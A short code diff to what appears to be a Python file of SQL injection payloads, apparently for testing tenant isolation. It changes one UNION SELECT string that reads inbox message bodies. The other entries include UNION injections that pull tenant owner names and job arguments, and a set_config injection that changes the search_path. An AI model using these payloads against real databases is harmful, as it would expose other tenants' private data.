@@ -25,7 +25,7 @@ UNIONS = {
     "the operator's people": f"' UNION {_PUBLIC} --",
     "the operator's tenants": "' UNION SELECT owner_name FROM public.tenants_tenant --",
     "the queue": "' UNION SELECT args::text FROM public.jobs_job --",
-    "the inbox": "' UNION SELECT convert_from(body, 'UTF8') FROM public.inbox --",
+    "the inbox": "' UNION SELECT encode(body, 'escape') FROM public.inbox --",
 }
 SETTINGS = {
     "set_config: search path": "' OR set_config('search_path', '{other}', false) > '' --",
